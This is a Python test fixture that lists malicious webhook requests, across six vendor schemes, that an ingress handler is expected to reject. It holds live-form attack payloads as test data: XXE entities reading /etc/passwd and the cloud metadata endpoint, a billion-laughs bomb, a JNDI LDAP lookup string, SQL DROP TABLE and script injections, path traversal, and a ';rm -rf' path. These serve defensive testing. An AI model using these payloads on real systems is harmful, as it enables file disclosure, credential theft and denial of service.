"""The bad-input catalog: every case a delivery Concord must refuse, for every scheme.

Built from the source's credentials and URL, so the same catalog runs against the handler
under moto (tests/unit/test_ingress_bad_input.py) and against the local stack
(tests/e2e/test_vendor_webhooks.py, a representative subset). Each case names its category,
the status and error code it must get; nothing may reach the bus.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import time
from collections.abc import Callable
from dataclasses import dataclass

from . import senders
from .senders import JSON, XML, Sent

CATEGORIES = (
    "forged", "stale", "truncated", "oversized", "wrong-content-type", "malformed", "deep-nesting",
    "unicode", "injection", "oversized-integer", "surrogate", "control-characters", "base-path",
)
MAX_BODY = 256 * 1024
# The local stack serves the API at its root and, like a custom domain's base-path mapping, here.
BASE_PATH = "/concord"


@dataclass(frozen=True)
class Credentials:
    crm_secret: str
    hubspot_secret: str
    xero_key: str
    quickbooks_token: str
    salesforce_token: str
    salesforce_org: str
    business_central_state: str


@dataclass(frozen=True)
class Case:
    id: str
    category: str
    scheme: str
    make: Callable[[], Sent]
    status: int
    codes: tuple[str, ...]
    path: str | None = None  # a raw path instead of /webhooks/<source>


@dataclass(frozen=True)
class Kit:
    scheme: str
    source: str
    format: str  # json | xml
    valid: Callable[[], bytes]
    sign: Callable[..., Sent]  # sign(body, content_type=...) → a genuinely credentialed request
    body_signed: bool  # whether the credential covers the body


def kits(c: Credentials, url_of: Callable[[str], str]) -> list[Kit]:
    return [
        Kit("standard-webhooks", "crm", "json", lambda: senders.canonical_body(),
            lambda body, content_type=JSON: senders.standard_webhooks("crm", c.crm_secret, body, content_type=content_type), True),
        Kit("hubspot", "hubspot", "json", lambda: senders.hubspot_events(),
            lambda body, content_type=JSON: senders.hubspot("hubspot", c.hubspot_secret, body, url_of("hubspot"), content_type=content_type), True),
        Kit("xero", "xero", "json", lambda: senders.xero_payload(senders.xero_event()),
            lambda body, content_type=JSON: senders.xero("xero", c.xero_key, body, content_type=content_type), True),
        Kit("quickbooks", "quickbooks", "json", lambda: senders.quickbooks_legacy(),
            lambda body, content_type=JSON: senders.quickbooks("quickbooks", c.quickbooks_token, body, content_type=content_type), True),
        Kit("salesforce", "salesforce", "xml", lambda: senders.salesforce_message(c.salesforce_org),
            lambda body, content_type=XML: senders.salesforce("salesforce", c.salesforce_token, body, content_type=content_type), False),
        Kit("business-central", "businesscentral", "json", lambda: senders.business_central_payload(c.business_central_state),
            lambda body, content_type=JSON: senders.business_central("businesscentral", body, content_type=content_type), False),
    ]


def _nested_json(depth: int, kind: str = "list") -> bytes:
    if kind == "list":
        return b"[" * depth + b"]" * depth
    return b'{"a":' * depth + b"1" + b"}" * depth


def _nested_xml(depth: int) -> bytes:
    return b"<a>" * depth + b"</a>" * depth


MALFORMED_JSON = {
    "open-brace": b"{", "trailing-comma": b'{"a": 1,}', "single-quotes": b"{'a': 1}", "unclosed-array": b"[1, 2",
    "missing-colon": b'{"a" "b"}', "trailing-garbage": b'{"a": 1} x', "nul-byte": b"\x00", "bare-word": b"tru",
}
MALFORMED_XML = {
    "unclosed": b"<a>", "mismatched": b"<a></b>", "not-xml": b"not xml at all", "declaration-only": b'<?xml version="1.0"?>',
    "crossed": b"<a><b></a></b>", "unquoted-attribute": b"<a attr=x/>", "undefined-entity": b"<a>&undefined;</a>",
    "two-roots": b"<a/><b/>",
}
XML_ENTITY_ATTACKS = {
    "billion-laughs": b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">'
                      b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>',
    "xxe-file": b'<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    "xxe-http": b'<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]><foo>&xxe;</foo>',
    "parameter-entity": b'<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY % p SYSTEM "http://example.invalid/x.dtd"> %p;]><foo/>',
    "external-dtd": b'<?xml version="1.0"?><!DOCTYPE foo SYSTEM "http://example.invalid/foo.dtd"><foo/>',
    "internal-dtd-in-soap": b'<?xml version="1.0"?><!DOCTYPE e [<!ELEMENT e ANY>]>'
                            b'<e xmlns="http://schemas.xmlsoap.org/soap/envelope/"/>',
}
UNICODE_JSON = {
    "lone-high-surrogate": b'{"a": "\\ud800"}', "lone-low-surrogate": b'{"a": "\\udfff x"}',
    "invalid-utf8": b'{"a": "\xff\xfe"}', "bom-prefixed": b"\xef\xbb\xbf{}", "utf16-encoded": '{"a": 1}'.encode("utf-16"),
    "overlong-utf8": b'{"a": "\xc0\xaf"}', "cesu-surrogate": b'{"a": "\xed\xa0\x80"}',
}
UNICODE_XML = {
    "invalid-utf8": b"<a>\xff\xfe</a>", "surrogate-reference": b"<a>&#xD800;</a>", "nul-reference": b"<a>&#0;</a>",
    "raw-nul": b"<a>\x00</a>", "overlong-utf8": b"<a>\xc0\xaf</a>",
}
CONTENT_TYPES = {
    "text-plain": "text/plain", "form": "application/x-www-form-urlencoded", "multipart": "multipart/form-data; boundary=x",
    "missing": "", "html": "text/html",
}


def _injection(kit: Kit, c: Credentials) -> dict[str, tuple[bytes, int, tuple[str, ...]]]:
    """Bodies carrying injection strings where the schema refuses them (never echoed back)."""
    sql, nosql, jndi, xss, template = "' OR '1'='1'; DROP TABLE accounts; --", {"$gt": ""}, "${jndi:ldap://x/a}", "<script>alert(1)</script>", "{{7*7}}"
    invalid = (422, ("invalid_event",))
    if kit.scheme == "standard-webhooks":
        base = {"type": "AccountChanged", "timestamp": "2026-01-05T09:00:00+00:00", "data": {"account_id": "A-1", "name": "Acme"}}
        return {
            "unknown-type": (json.dumps({**base, "type": xss}).encode(), *invalid),
            "nosql-field": (json.dumps({**base, "data": {**base["data"], "$where": "1"}}).encode(), *invalid),
            "sql-currency": (json.dumps({**base, "data": {**base["data"], "currency": sql}}).encode(), *invalid),
            "path-legal-entity": (json.dumps({**base, "legal_entity": "../../etc/passwd"}).encode(), *invalid),
            "template-timestamp": (json.dumps({**base, "timestamp": template}).encode(), *invalid),
            "jndi-correlation": (json.dumps({**base, "correlation_id": jndi * 20}).encode(), *invalid),
        }
    if kit.scheme == "hubspot":
        event = senders.hubspot_event()
        return {
            "sql-event-id": (json.dumps([{**event, "eventId": sql}]).encode(), *invalid),
            "nosql-portal": (json.dumps([{**event, "portalId": nosql}]).encode(), *invalid),
            "jndi-object-id": (json.dumps([{**event, "objectId": jndi}]).encode(), *invalid),
            "xss-huge-type": (json.dumps([{**event, "subscriptionType": xss * 100}]).encode(), *invalid),
            "strings-not-events": (json.dumps([xss, sql]).encode(), *invalid),
            "template-occurred-at": (json.dumps([{**event, "occurredAt": template}]).encode(), *invalid),
        }
    if kit.scheme == "xero":
        event = senders.xero_event()
        payload = json.loads(senders.xero_payload(event))
        return {
            "xss-events": (json.dumps({**payload, "events": xss}).encode(), *invalid),
            "sql-sequence": (json.dumps({**payload, "firstEventSequence": sql}).encode(), *invalid),
            "nosql-resource": (json.dumps({**payload, "events": [{**event, "resourceId": nosql}]}).encode(), *invalid),
            "jndi-huge-entropy": (json.dumps({**payload, "entropy": jndi * 100}).encode(), *invalid),
            "list-category": (json.dumps({**payload, "events": [{**event, "eventCategory": [sql]}]}).encode(), *invalid),
            "template-missing-fields": (json.dumps({"events": [{"resourceUrl": template}]}).encode(), *invalid),
        }
    if kit.scheme == "quickbooks":
        return {
            "nosql-realm": (json.dumps({"eventNotifications": [{"realmId": nosql, "dataChangeEvent": {"entities": []}}]}).encode(), *invalid),
            "jndi-entities": (json.dumps({"eventNotifications": [{"realmId": "1", "dataChangeEvent": {"entities": jndi}}]}).encode(), *invalid),
            "empty-notifications": (json.dumps({"eventNotifications": [], "x": sql}).encode(), *invalid),
            "xss-huge-cloud-event-id": (json.dumps([{"specversion": "1.0", "id": xss * 100, "source": "s", "type": "qbo.invoice.created.v1",
                                                     "intuitentityid": "1", "intuitaccountid": "2"}]).encode(), *invalid),
            "null-type": (json.dumps([{"specversion": "1.0", "id": "1", "source": "s", "type": None,
                                       "intuitentityid": "1", "intuitaccountid": "2"}]).encode(), *invalid),
            "template-scalar": (json.dumps(template).encode(), *invalid),
        }
    if kit.scheme == "salesforce":
        good = senders.salesforce_message(c.salesforce_org).decode()
        return {
            "sql-organization": (senders.salesforce_message("00D' OR '1'='1"), 403, ("organization_not_allowed",)),
            "xss-notification-id": (good.replace("<Notification><Id>", "<Notification><Id>&lt;script&gt;", 1).encode(), *invalid),
            "sobject-type": (good.replace('xsi:type="sf:Account"', 'xsi:type="sf:Account;DROP"').encode(), *invalid),
            "path-action-id": (good.replace("<ActionId>04k5e000000CaRkAAK", "<ActionId>../../etc/passwd").encode(), *invalid),
            "no-notifications": (good.split("<Notification>")[0].encode() + b"</notifications></soapenv:Body></soapenv:Envelope>", *invalid),
            "not-soap": (f"<notifications><OrganizationId>{c.salesforce_org}</OrganizationId></notifications>".encode(), *invalid),
        }
    state = c.business_central_state
    item = json.loads(senders.business_central_payload(state))["value"][0]
    return {
        "sql-client-state": (json.dumps({"value": [{**item, "clientState": sql}]}).encode(), 401, ("signature_invalid",)),
        "nosql-client-state": (json.dumps({"value": [{**item, "clientState": nosql}]}).encode(), 401, ("signature_missing",)),
        "xss-value": (json.dumps({"value": xss}).encode(), *invalid),
        "huge-resource": (json.dumps({"value": [{**item, "resource": jndi * 200}]}).encode(), *invalid),
        "null-change-type": (json.dumps({"value": [{**item, "changeType": None}]}).encode(), *invalid),
        "template-subscription": (json.dumps({"value": [{**item, "subscriptionId": {"t": template}}]}).encode(), *invalid),
    }


def _forged(kit: Kit, c: Credentials, url_of: Callable[[str], str]) -> dict[str, tuple[Callable[[], Sent], int, tuple[str, ...]]]:
    body = kit.valid
    bad = (401, ("signature_invalid",))
    missing = (401, ("signature_missing",))
    if kit.scheme == "standard-webhooks":
        other = "whsec_" + base64.b64encode(b"an-attacker-guess-32-bytes-long!").decode()
        return {
            "wrong-secret": (lambda: senders.standard_webhooks("crm", other, body()), *bad),
            "other-body": (lambda: kit.sign(body()).with_body(body()), *bad),
            "v2-prefix": (lambda: _retag(kit.sign(body()), "webhook-signature", "v1,", "v2,"), *bad),
            "garbage-signature": (lambda: kit.sign(body()).with_headers(**{"webhook-signature": "v1,!!!not-base64!!!"}), *bad),
            "no-signature": (lambda: kit.sign(body()).without_header("webhook-signature"), *missing),
            "other-delivery-id": (lambda: kit.sign(body()).with_headers(**{"webhook-id": "msg_other"}), *bad),
            "unicode-signature": (lambda: kit.sign(body()).with_headers(**{"webhook-signature": "v1,ü" * 3}), *bad),
        }
    if kit.scheme == "hubspot":
        url = url_of("hubspot")
        return {
            "wrong-secret": (lambda: senders.hubspot("hubspot", "an-attacker-guess-0000", body(), url), *bad),
            "other-url": (lambda: senders.hubspot("hubspot", c.hubspot_secret, body(), url + "-evil"), *bad),
            "other-method": (lambda: senders.hubspot("hubspot", c.hubspot_secret, body(), url, method="GET"), *bad),
            "other-body": (lambda: kit.sign(body()).with_body(body()), *bad),
            "no-signature": (lambda: kit.sign(body()).without_header("X-HubSpot-Signature-v3"), *missing),
            "no-timestamp": (lambda: kit.sign(body()).without_header("X-HubSpot-Request-Timestamp"), *missing),
            "v1-signature-only": (lambda: _hubspot_v1_only(c.hubspot_secret, body()), *missing),
        }
    if kit.scheme in ("xero", "quickbooks"):
        header = "x-xero-signature" if kit.scheme == "xero" else "intuit-signature"
        key = c.xero_key if kit.scheme == "xero" else c.quickbooks_token
        make = senders.xero if kit.scheme == "xero" else senders.quickbooks
        return {
            "wrong-key": (lambda: make(kit.source, "an-attacker-guess-0000", body()), *bad),
            "other-body": (lambda: kit.sign(body()).with_body(body()), *bad),
            "hex-digest": (lambda: kit.sign(body()).with_headers(**{header: hmac.new(key.encode(), b"x", hashlib.sha256).hexdigest()}), *bad),
            "no-signature": (lambda: kit.sign(body()).without_header(header), *missing),
            "empty-signature": (lambda: kit.sign(body()).with_headers(**{header: ""}), *missing),
            "other-source-key": (lambda: make(kit.source, c.quickbooks_token if kit.scheme == "xero" else c.xero_key, body()), *bad),
            "overlong-signature": (lambda: kit.sign(body()).with_headers(**{header: "A" * 5000}), *bad),
        }
    if kit.scheme == "salesforce":
        foreign = "00D000000000666AAA"
        return {
            "no-token": (lambda: Sent("salesforce", body(), {"Content-Type": XML}), *missing),
            "wrong-token": (lambda: kit.sign(body()).with_query(token="an-attacker-guess-0000"), *bad),
            "other-source-token": (lambda: kit.sign(body()).with_query(token=c.business_central_state), *bad),
            "token-in-header": (lambda: Sent("salesforce", body(), {"Content-Type": XML, "token": c.salesforce_token}), *missing),
            "foreign-org": (lambda: kit.sign(senders.salesforce_message(foreign)), 403, ("organization_not_allowed",)),
            "org-case-changed": (lambda: kit.sign(senders.salesforce_message(c.salesforce_org.lower())), 403, ("organization_not_allowed",)),
            "no-org": (lambda: kit.sign(senders.salesforce_message(c.salesforce_org).replace(
                f"<OrganizationId>{c.salesforce_org}</OrganizationId>".encode(), b"")), 422, ("invalid_event",)),
        }
    state = c.business_central_state
    return {
        "wrong-client-state": (lambda: kit.sign(senders.business_central_payload("an-attacker-guess-0000")), *bad),
        "no-client-state": (lambda: kit.sign(_bc_without_state(senders.business_central_payload(state))), *missing),
        "one-bad-item": (lambda: kit.sign(_bc_merge(senders.business_central_payload(state), senders.business_central_payload("x" * 20))), *bad),
        "prefix-of-state": (lambda: kit.sign(senders.business_central_payload(state[:10])), *bad),
        "state-with-space": (lambda: kit.sign(senders.business_central_payload(state + " ")), *bad),
        "empty-client-state": (lambda: kit.sign(senders.business_central_payload("")), *missing),
        "state-in-header": (lambda: kit.sign(_bc_without_state(senders.business_central_payload(state))).with_headers(clientState=state), *missing),
        # Neither a handshake nor a notification: nothing carries a clientState.
        "empty-value": (lambda: kit.sign(b'{"value": []}'), *missing),
        "empty-value-state-in-header": (lambda: kit.sign(b'{"value": []}').with_headers(clientState=state), *missing),
    }


def _stale(kit: Kit, c: Credentials, url_of: Callable[[str], str]) -> dict[str, Callable[[], Sent]]:
    """Signed correctly, at a time outside the tolerance (computed when the case is sent)."""
    now = lambda: int(time.time())  # noqa: E731
    if kit.scheme == "standard-webhooks":
        sign = lambda ts: senders.standard_webhooks("crm", c.crm_secret, kit.valid(), timestamp=ts)  # noqa: E731
        return {"6-min-old": lambda: sign(now() - 360), "6-min-ahead": lambda: sign(now() + 360),
                "1-hour-old": lambda: sign(now() - 3600), "epoch": lambda: sign(0), "year-3000": lambda: sign(32_503_680_000),
                "milliseconds": lambda: sign(now() * 1000)}
    if kit.scheme == "hubspot":
        sign = lambda ms: senders.hubspot("hubspot", c.hubspot_secret, kit.valid(), url_of("hubspot"), timestamp_ms=ms)  # noqa: E731
        return {"6-min-old": lambda: sign((now() - 360) * 1000), "6-min-ahead": lambda: sign((now() + 360) * 1000),
                "1-hour-old": lambda: sign((now() - 3600) * 1000), "epoch": lambda: sign(0),
                "year-3000": lambda: sign(32_503_680_000_000), "seconds": lambda: sign(now())}
    return {}


def _padded(body: bytes, size: int) -> bytes:
    """The body with trailing whitespace (still valid JSON/XML) up to exactly `size` bytes."""
    return body + b" " * (size - len(body))


def _retag(sent: Sent, header: str, old: str, new: str) -> Sent:
    return sent.with_headers(**{header: sent.headers[header].replace(old, new)})


def _hubspot_v1_only(secret: str, body: bytes) -> Sent:
    v1 = hashlib.sha256(secret.encode() + body).hexdigest()
    return Sent("hubspot", body, {"Content-Type": JSON, "X-HubSpot-Signature": v1, "X-HubSpot-Signature-Version": "v1"})


def _bc_without_state(body: bytes) -> bytes:
    payload = json.loads(body)
    for item in payload["value"]:
        item.pop("clientState")
    return json.dumps(payload).encode()


def _bc_merge(first: bytes, second: bytes) -> bytes:
    return json.dumps({"value": json.loads(first)["value"] + json.loads(second)["value"]}).encode()


# Integers longer than any field needs, up to past Python's int-string limit (4,300 digits).
HUGE_INTEGER_DIGITS = {"65-digits": 65, "4301-digits": 4301, "100000-digits": 100_000}
# Lone UTF-16 surrogates where the request carries text: a header, the query, the Host.
SURROGATES = {
    "header-value": lambda sent: sent.with_headers(**{"X-Trace-Note": "a\udc80b"}),
    "query-value": lambda sent: sent.with_query(note="\ud800"),
    "host": lambda sent: sent.with_headers(Host="hooks\udfff.example.com"),
}
# NUL, other C0 controls and text-direction controls in canonical names and ids.
CONTROL_CHARACTERS = {
    "nul-in-name": {"name": "Acme\x00Corp"}, "nul-in-id": {"account_id": "A-1\x00"},
    "escape-in-name": {"name": "Acme\x1b[31m"}, "tab-in-id": {"account_id": "A\t1"}, "newline-in-name": {"name": "Acme\nCorp"},
    "rtl-override-in-name": {"name": "Acme\u202eproC"}, "ltr-embedding-in-id": {"account_id": "\u202aA-1"},
    "isolate-in-name": {"name": "\u2066Acme\u2069"}, "rtl-mark-in-id": {"account_id": "A-1\u200f"}, "del-in-name": {"name": "Acme\x7f"},
}


def _huge_integer(digits: int) -> bytes:
    return b'{"value": [{"subscriptionId": ' + b"9" * digits + b"}]}"


def _with_account(fields: dict[str, str]) -> bytes:
    base = {"account_id": "A-1", "name": "Acme"}
    return json.dumps({"type": "AccountChanged", "timestamp": "2026-01-05T09:00:00+00:00", "data": {**base, **fields}}).encode()


def _base_path_cases(kit: Kit, c: Credentials, url_of: Callable[[str], str]) -> dict[str, tuple[Callable[[], Sent], str, int, tuple[str, ...]]]:
    """Deliveries under the custom domain's base path that must still be refused."""
    cases: dict[str, tuple[Callable[[], Sent], str, int, tuple[str, ...]]] = {
        "other-source-name": (lambda: kit.sign(kit.valid()), f"{BASE_PATH}/webhooks/{kit.source}x", 404, ("unknown_source",)),
        "nul-in-source": (lambda: kit.sign(kit.valid()), f"{BASE_PATH}/webhooks/{kit.source}%00", 404, ("unknown_source", "not_found")),
    }
    if kit.scheme == "hubspot":
        # Signed over the URL without the base path: not the URL HubSpot called.
        cases["signed-without-base-path"] = (lambda: kit.sign(kit.valid()), f"{BASE_PATH}/webhooks/{kit.source}", 401, ("signature_invalid",))
    if kit.scheme == "standard-webhooks":
        other = "whsec_" + base64.b64encode(b"an-attacker-guess-32-bytes-long!").decode()
        cases["wrong-secret"] = (lambda: senders.standard_webhooks("crm", other, kit.valid()), f"{BASE_PATH}/webhooks/crm", 401, ("signature_invalid",))
    return cases


def build_cases(c: Credentials, url_of: Callable[[str], str]) -> list[Case]:
    cases: list[Case] = []

    def add(category: str, kit: Kit, name: str, make: Callable[[], Sent], status: int, codes: tuple[str, ...], path: str | None = None) -> None:
        cases.append(Case(f"{kit.scheme}/{category}/{name}", category, kit.scheme, make, status, codes, path))

    malformed = (400, ("malformed_payload",))
    for kit in kits(c, url_of):
        for name, (make, status, codes) in _forged(kit, c, url_of).items():
            add("forged", kit, name, make, status, codes)
        for name, make in _stale(kit, c, url_of).items():
            # 13 digits are not unix seconds: refused as malformed before the time check.
            codes = ("signature_invalid",) if name == "milliseconds" else ("timestamp_out_of_tolerance",)
            add("stale", kit, name, make, 401, codes)
        # truncated: signed as truncated (unparseable), or cut after signing (signature broken)
        for name, cut in {"half": lambda b: b[: len(b) // 2], "last-byte": lambda b: b[:-1], "first-byte": lambda b: b[:1], "empty": lambda b: b""}.items():
            add("truncated", kit, f"signed-{name}", (lambda cut=cut, kit=kit: kit.sign(cut(kit.valid()))), *malformed)
        add("truncated", kit, "cut-after-signing",
            (lambda kit=kit: (lambda s: s.with_body(s.body[: len(s.body) // 2]))(kit.sign(kit.valid()))),
            *((401, ("signature_invalid",)) if kit.body_signed else malformed))
        # oversized
        for name, size in {"limit-plus-one": MAX_BODY + 1, "1-mib": 1024 * 1024, "5-mib": 5 * 1024 * 1024}.items():
            add("oversized", kit, name, (lambda size=size, kit=kit: kit.sign(_padded(kit.valid(), size))), 413, ("payload_too_large",))
        # wrong content type
        other_family = {"json": {"xml": "application/xml", "json-patch": "application/json-patch+json"},
                        "xml": {"json": JSON, "soap12": "application/soap+xml"}}[kit.format]
        for name, content_type in {**CONTENT_TYPES, **other_family}.items():
            add("wrong-content-type", kit, name, (lambda ct=content_type, kit=kit: kit.sign(kit.valid(), content_type=ct)), 415, ("unsupported_media_type",))
        # malformed
        for name, body in (MALFORMED_JSON if kit.format == "json" else MALFORMED_XML).items():
            add("malformed", kit, name, (lambda body=body, kit=kit: kit.sign(body)), *malformed)
        if kit.format == "xml":
            for name, body in XML_ENTITY_ATTACKS.items():
                add("malformed", kit, name, (lambda body=body, kit=kit: kit.sign(body)), *malformed)
        # deep nesting
        if kit.format == "json":
            nested = {"list-33": _nested_json(33), "list-1000": _nested_json(1000), "list-100000": _nested_json(100_000),
                      "dict-40": _nested_json(40, "dict"), "dict-5000": _nested_json(5000, "dict")}
        else:
            nested = {"xml-33": _nested_xml(33), "xml-1000": _nested_xml(1000), "xml-10000": _nested_xml(10_000),
                      "xml-in-soap": senders.salesforce_message(c.salesforce_org).replace(b"<sf:Name>", b"<sf:Name>" + _nested_xml(40))}
        for name, body in nested.items():
            add("deep-nesting", kit, name, (lambda body=body, kit=kit: kit.sign(body)), *malformed)
        # unicode edge cases
        for name, body in (UNICODE_JSON if kit.format == "json" else UNICODE_XML).items():
            add("unicode", kit, name, (lambda body=body, kit=kit: kit.sign(body)), *malformed)
        # injection strings where the schema refuses them
        for name, (body, status, codes) in _injection(kit, c).items():
            add("injection", kit, name, (lambda body=body, kit=kit: kit.sign(body)), status, codes)
        # integers no field needs (Python cannot even convert the longest: a 500 before)
        if kit.format == "json":
            for name, digits in HUGE_INTEGER_DIGITS.items():
                add("oversized-integer", kit, name, (lambda digits=digits, kit=kit: kit.sign(_huge_integer(digits))), *malformed)
        # lone surrogates outside the body
        for name, spoil in SURROGATES.items():
            add("surrogate", kit, name, (lambda spoil=spoil, kit=kit: spoil(kit.sign(kit.valid()))), 400, ("malformed_request",))
        # control characters in canonical names and ids
        if kit.scheme == "standard-webhooks":
            for name, fields in CONTROL_CHARACTERS.items():
                add("control-characters", kit, name, (lambda fields=fields, kit=kit: kit.sign(_with_account(fields))), 422, ("invalid_event",))
        # under the custom domain's base path
        for name, (make, path, status, codes) in _base_path_cases(kit, c, url_of).items():
            add("base-path", kit, name, make, status, codes, path)
    # injection into the source path: an unknown source, or no route at all
    some = kits(c, url_of)[0]
    for name, path in {"dot-dot": "/webhooks/..%2Fcrm", "upper-case": "/webhooks/CRM", "semicolon": "/webhooks/crm;rm%20-rf",
                       "script": "/webhooks/%3Cscript%3E", "nul": "/webhooks/crm%00", "long": "/webhooks/" + "a" * 300,
                       "sql": "/webhooks/crm'%20OR%20'1'='1", "unicode": "/webhooks/cr\u0131m"}.items():
        cases.append(Case(f"any/injection/path-{name}", "injection", "any", (lambda some=some: some.sign(some.valid())), 404,
                          ("unknown_source", "not_found"), path))
    return cases


def replay_cases() -> list[str]:
    """Stateful replay cases (see test_ingress_bad_input.py::test_replayed)."""
    return [
        "standard-webhooks/identical", "standard-webhooks/same-id-other-body", "standard-webhooks/after-tolerance",
        "hubspot/identical", "hubspot/retry-attempt-number", "hubspot/after-tolerance",
        "xero/identical", "xero/modified-body-old-signature", "quickbooks/identical", "quickbooks/modified-body-old-signature",
        "salesforce/identical", "salesforce/new-session-id", "business-central/identical",
    ]
